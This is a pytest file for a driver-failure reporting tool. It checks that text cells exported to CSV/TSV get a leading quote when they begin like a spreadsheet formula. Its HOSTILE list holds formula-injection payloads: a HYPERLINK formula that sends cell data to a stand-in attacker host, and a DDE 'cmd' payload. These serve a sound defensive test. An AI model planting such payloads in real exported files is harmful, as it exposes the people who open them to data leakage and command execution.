"""Issue 10.9: text cells that start like a spreadsheet formula reach CSV/TSV files neutralised."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import duckdb
import pytest

from driverlens.catalog import STORED_COLUMNS, PartnerKind
from driverlens.compiler import CompiledQuery, Scope, compile_template
from driverlens.compiler.spreadsheet import neutralise_formulas
from driverlens.templates import parse_template
from tests.compiler.cases import WINDOW
from tests.compiler.events import event

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
BENIGN = ["0x9F_nvlddmkm!Foo", "a=b", " =not at start"]
TEMPLATE = {
    "view": "IHVDriver",
    "projection": ["FailureName", "EventType"],
    "dateRange": {"reportPeriod": "Last7Days"},
    "aggregation": {"aggregatedColumns": ["SUM(EventCount)", "MAX(DriverName)"]},
    "orderby": [{"attribute": "FailureName", "sort": "desc"}],
}


@pytest.fixture(scope="module")
def con() -> Iterator[duckdb.DuckDBPyConnection]:
    connection = duckdb.connect(":memory:")
    columns = ", ".join(f'"{name}" {ctype.duckdb_type}' for name, ctype in STORED_COLUMNS)
    connection.execute(f"CREATE TABLE failure_events ({columns})")
    names = [name for name, _ in STORED_COLUMNS]
    rows = [
        event(n, FailureName=name, DriverName=name, day=date(2024, 5, 2))
        for n, name in enumerate(HOSTILE + BENIGN)
    ]
    placeholders = ", ".join("?" for _ in names)
    connection.executemany(
        f"INSERT INTO failure_events VALUES ({placeholders})", [[row[n] for n in names] for row in rows]
    )
    yield connection
    connection.close()


def written(
    con: duckdb.DuckDBPyConnection, query: CompiledQuery, path: Path, delimiter: str
) -> list[list[str]]:
    con.execute(
        f"COPY ({query.sql('duckdb')}) TO '{path}' (FORMAT csv, HEADER true, DELIMITER '{delimiter}')"
    )
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def compiled() -> tuple[CompiledQuery, object]:
    template = parse_template(TEMPLATE)
    assert WINDOW.start <= date(2024, 5, 2) < WINDOW.end
    return compile_template(template, Scope(PartnerKind.IHV, "Contoso"), WINDOW), template


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_formula_cells_get_a_leading_quote(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, delimiter: str
) -> None:
    query, template = compiled()
    raw = written(con, query, tmp_path / "raw.csv", delimiter)
    safe = written(con, neutralise_formulas(query, template), tmp_path / "safe.csv", delimiter)  # type: ignore[arg-type]
    assert safe[0] == raw[0] == ["FailureName", "EventType", "SUM(EventCount)", "MAX(DriverName)"]
    assert len(safe) == len(raw) == 1 + len(HOSTILE) + len(BENIGN)
    for raw_row, safe_row in zip(raw[1:], safe[1:], strict=True):  # same order, row for row
        for column in (0, 3):
            if raw_row[column].startswith(("=", "+", "-", "@", "\t", "\r")):
                assert safe_row[column] == "'" + raw_row[column]
            else:
                assert safe_row[column] == raw_row[column]
        assert safe_row[1:3] == raw_row[1:3]  # enumerations and numbers untouched
    cells = {row[0] for row in safe[1:]}
    assert {"'" + h for h in HOSTILE} | set(BENIGN) == cells
    assert not any(
        c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in safe[1:] for c in (row[0], row[3])
    )
    # Without neutralising (the raw option, and the code before the fix) the formulas arrive verbatim.
    assert set(HOSTILE) <= {row[0] for row in raw[1:]}
